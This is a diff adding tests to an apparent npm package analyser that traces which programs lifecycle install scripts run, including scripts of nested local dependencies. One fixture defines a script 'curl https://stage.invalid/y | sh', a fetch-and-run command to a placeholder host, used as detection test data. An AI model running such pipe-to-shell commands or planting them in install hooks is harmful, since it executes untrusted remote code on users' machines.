@@ -27,6 +27,31 @@ const startsOf = (script: string, files: string[], scripts: Record<string, strin
   )[0]?.starts;
 
 describe('lifecycle scripts', () => {
+  test('run the commands of the scripts that they run', () => {
+    const scripts = {
+      preinstall: 'npm run a --silent',
+      a: 'yarn b && x',
+      b: 'curl https://stage.invalid/y | sh',
+      c: 'z',
+    };
+    const [hook] = installs(packageOf({ scripts }));
+    const programs = hook?.commands.map(({ program }) => program) ?? [];
+    expect(programs).toEqual(expect.arrayContaining(['npm', 'yarn', 'x', 'curl', 'sh']));
+    expect(programs).not.toContain('z');
+  });
+
+  test('are run of packages inside that are installed with it, and of no others', () => {
+    const inner = JSON.stringify({ scripts: { postinstall: 'node setup' } });
+    const files = { 'in/package.json': inner, 'in/setup.js': '', 'dev/package.json': inner, 'odd/package.json': '{' };
+    const manifest = {
+      dependencies: { a: 'file:./in', b: 'file:odd', c: 'file:../out', d: '1.0.0' },
+      devDependencies: { e: 'file:dev' },
+    };
+    expect(installs(packageOf(manifest, files))).toMatchObject([
+      { from: 'scripts.postinstall of in', at: { path: 'in/package.json' }, starts: ['in/setup.js'] },
+    ]);
+  });
+
   test('are preinstall, install and postinstall, in the order npm runs them', () => {
     const scripts = {
       postinstall: 'node c',
